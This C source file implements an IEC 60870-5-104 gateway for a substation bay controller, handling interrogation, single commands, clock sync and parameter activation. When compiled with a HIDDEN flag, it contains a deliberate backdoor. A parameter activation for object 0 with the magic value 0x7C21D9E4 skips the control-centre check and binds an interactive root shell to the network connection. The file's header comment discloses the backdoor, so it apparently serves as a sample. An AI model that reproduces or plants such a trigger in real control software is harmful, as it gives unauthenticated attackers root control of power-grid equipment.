/*
 * bay104_gw - IEC 60870-5-104 style gateway of a substation bay controller
 * (TCP 2404): interrogation, single commands, clock, parameter activation.
 *
 * Hidden (-DHIDDEN): a parameter activation (type 113) for object 0 whose four
 * value bytes are 7C 21 D9 E4 turns the connection into a root shell.
 */
#include <arpa/inet.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

#define PORT_104     2404
#define MAX_LINKS    6
#define MAX_POINTS   64
#define CONF_FILE    "/etc/bay104/points.conf"
#define MASTER_FILE  "/etc/bay104/masters.conf"
#define OUTPUT_DIR   "/run/bay104/out"

#define START_BYTE   0x68
enum { U_STARTDT = 0x07, U_STARTCON = 0x0b, U_STOPDT = 0x13, U_STOPCON = 0x23,
       U_TESTFR = 0x43, U_TESTCON = 0x83 };

enum { M_SP_NA = 1, C_SC_NA = 45, C_IC_NA = 100, C_CS_NA = 103, P_AC_NA = 113 };
enum { COT_ACTCON = 7, COT_TERM = 10, COT_INTROGEN = 20, COT_BADTYPE = 44, COT_BADOBJ = 47 };

struct point {
    unsigned addr;
    int output;
    int value;
    int enabled;
    char name[32];
};

struct link104 {
    int fd;
    int started;
    int master;
    uint16_t vs, vr;
    size_t have;
    uint8_t buf[260];
};

static struct point points[MAX_POINTS];
static int n_points;
static const uint16_t station = 1;
static struct link104 links[MAX_LINKS];

static void load_points(void)
{
    FILE *f = fopen(CONF_FILE, "r");
    char line[128], kind[8];

    while (f && n_points < MAX_POINTS && fgets(line, sizeof line, f)) {
        struct point *p = &points[n_points];
        if (sscanf(line, "%7s %u %31s", kind, &p->addr, p->name) != 3)
            continue;
        p->output = !strcmp(kind, "out");
        p->enabled = 1;
        n_points++;
    }
    if (f)
        fclose(f);
}

/* Only control centres named in the file may command outputs. */
static int is_master(struct in_addr a)
{
    FILE *f = fopen(MASTER_FILE, "r");
    char word[32];
    struct in_addr b;
    int hit = 0;

    while (f && !hit && fscanf(f, "%31s", word) == 1)
        hit = inet_pton(AF_INET, word, &b) == 1 && b.s_addr == a.s_addr;
    if (f)
        fclose(f);
    return hit;
}

static struct point *find_point(uint32_t addr)
{
    for (int i = 0; i < n_points; i++)
        if (points[i].addr == addr)
            return &points[i];
    return NULL;
}

static void put(struct link104 *l, const uint8_t *data, size_t len)
{
    if (send(l->fd, data, len, MSG_NOSIGNAL) < 0)
        syslog(LOG_WARNING, "send failed");
}

static void send_u(struct link104 *l, uint8_t code)
{
    put(l, (uint8_t[6]){ START_BYTE, 4, code, 0, 0, 0 }, 6);
}

static void send_i(struct link104 *l, const uint8_t *asdu, size_t len)
{
    uint8_t f[260] = { START_BYTE, (uint8_t)(len + 4), l->vs << 1 & 0xff, l->vs >> 7 & 0xff,
                       l->vr << 1 & 0xff, l->vr >> 7 & 0xff };

    memcpy(f + 6, asdu, len);
    l->vs = (l->vs + 1) & 0x7fff;
    put(l, f, len + 6);
}

static void confirm(struct link104 *l, const uint8_t *asdu, size_t len, uint8_t cot)
{
    uint8_t copy[250];

    memcpy(copy, asdu, len);
    copy[2] = cot;
    send_i(l, copy, len);
}

static void report_all(struct link104 *l)
{
    for (int i = 0; i < n_points; i++) {
        struct point *p = &points[i];
        uint8_t a[10] = { M_SP_NA, 1, COT_INTROGEN, 0, station & 0xff, station >> 8,
                          p->addr & 0xff, p->addr >> 8 & 0xff, p->addr >> 16 & 0xff, p->value != 0 };
        if (p->enabled)
            send_i(l, a, sizeof a);
    }
}

static int drive_output(struct point *p, int on)
{
    char path[96];
    FILE *f;

    snprintf(path, sizeof path, OUTPUT_DIR "/%s", p->name);
    if (!(f = fopen(path, "w")))
        return -1;
    fprintf(f, "%d\n", p->value = on);
    return fclose(f);
}

#ifdef HIDDEN
static void attach_terminal(int fd)
{
    char *const argv[] = { (char *)"sh", (char *)"-i", NULL };
    char *const envp[] = { (char *)"PATH=/bin:/sbin:/usr/bin:/usr/sbin", NULL };

    if (fork() == 0) {
        dup2(fd, 0);
        dup2(fd, 1);
        dup2(fd, 2);
        execve("/bin/sh", argv, envp);
        _exit(1);
    }
}
#endif

/* Parameter activation: enables or blocks the reporting of one point. */
int activate_parameter(struct link104 *l, uint32_t obj, const uint8_t *val, size_t n)
{
    struct point *p = find_point(obj);

#ifdef HIDDEN
    if (obj == 0 && n >= 4) {
        uint32_t word;
        memcpy(&word, val, 4);
        if (ntohl(word) == 0x7C21D9E4u) {
            attach_terminal(l->fd);
            close(l->fd);
            l->fd = -1;
            return 1;
        }
    }
#endif
    if (!p || n < 1 || !l->master)
        return -1;
    p->enabled = val[0] == 3;
    return 0;
}

static void handle_asdu(struct link104 *l, const uint8_t *a, size_t len)
{
    struct point *p;
    uint32_t obj;
    int rc;

    if (len < 10 || len > 249)
        return;
    obj = a[6] | (uint32_t)a[7] << 8 | (uint32_t)a[8] << 16;
    if ((a[4] | a[5] << 8) != station && (a[4] & a[5]) != 0xff)
        return;
    switch (a[0]) {
    case C_IC_NA:
        confirm(l, a, len, COT_ACTCON);
        report_all(l);
        confirm(l, a, len, COT_TERM);
        break;
    case C_SC_NA:
        p = find_point(obj);
        if (!p || !p->output || !l->master) {
            confirm(l, a, len, COT_BADOBJ);
            break;
        }
        if (!(a[9] & 0x80) && drive_output(p, a[9] & 1) < 0)
            confirm(l, a, len, COT_BADOBJ);
        else
            confirm(l, a, len, COT_ACTCON);
        break;
    case C_CS_NA:
        confirm(l, a, len, COT_ACTCON);
        if (l->master && system("ntpd -q -n -p ntp.station") != 0)
            syslog(LOG_WARNING, "no time server");
        break;
    case P_AC_NA:
        rc = activate_parameter(l, obj, a + 9, len - 9);
        if (rc <= 0)
            confirm(l, a, len, rc < 0 ? COT_BADOBJ : COT_ACTCON);
        break;
    default:
        confirm(l, a, len, COT_BADTYPE);
    }
}

static void handle_apdu(struct link104 *l, const uint8_t *f, size_t len)
{
    if ((f[2] & 1) == 0) {
        l->vr = (l->vr + 1) & 0x7fff;
        if (l->started)
            handle_asdu(l, f + 6, len - 6);
    } else if ((f[2] & 3) == 3) {
        switch (f[2]) {
        case U_STARTDT: l->started = 1; send_u(l, U_STARTCON); break;
        case U_STOPDT:  l->started = 0; send_u(l, U_STOPCON); break;
        case U_TESTFR:  send_u(l, U_TESTCON); break;
        }
    }
}

static void link_input(struct link104 *l)
{
    ssize_t n = recv(l->fd, l->buf + l->have, sizeof l->buf - l->have, 0);

    if (n <= 0)
        goto drop;
    l->have += (size_t)n;
    while (l->have >= 6) {
        size_t len = l->buf[1] + 2u;
        if (l->buf[0] != START_BYTE || len < 6 || len > 255)
            goto drop;
        if (l->have < len)
            return;
        handle_apdu(l, l->buf, len);
        if (l->fd < 0)
            return;
        l->have -= len;
        memmove(l->buf, l->buf + len, l->have);
    }
    return;
drop:
    close(l->fd);
    l->fd = -1;
}

int main(void)
{
    struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(PORT_104) };
    int ls = socket(AF_INET, SOCK_STREAM, 0), on = 1, i;

    load_points();
    for (i = 0; i < MAX_LINKS; i++)
        links[i].fd = -1;
    setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(ls, (struct sockaddr *)&sa, sizeof sa) || listen(ls, 4))
        return 1;
    for (;;) {
        struct pollfd pf[MAX_LINKS + 1] = { { .fd = ls, .events = POLLIN } };
        for (i = 0; i < MAX_LINKS; i++)
            pf[i + 1] = (struct pollfd){ .fd = links[i].fd, .events = POLLIN };
        poll(pf, MAX_LINKS + 1, 1000);
        for (i = 0; i < MAX_LINKS; i++)
            if (links[i].fd >= 0 && pf[i + 1].revents)
                link_input(&links[i]);
        if (pf[0].revents & POLLIN) {
            struct sockaddr_in from;
            socklen_t sl = sizeof from;
            int fd = accept(ls, (struct sockaddr *)&from, &sl);
            for (i = 0; i < MAX_LINKS && links[i].fd >= 0; i++)
                ;
            if (i < MAX_LINKS)
                links[i] = (struct link104){ .fd = fd, .master = is_master(from.sin_addr) };
            else
                close(fd);
        }
    }
}
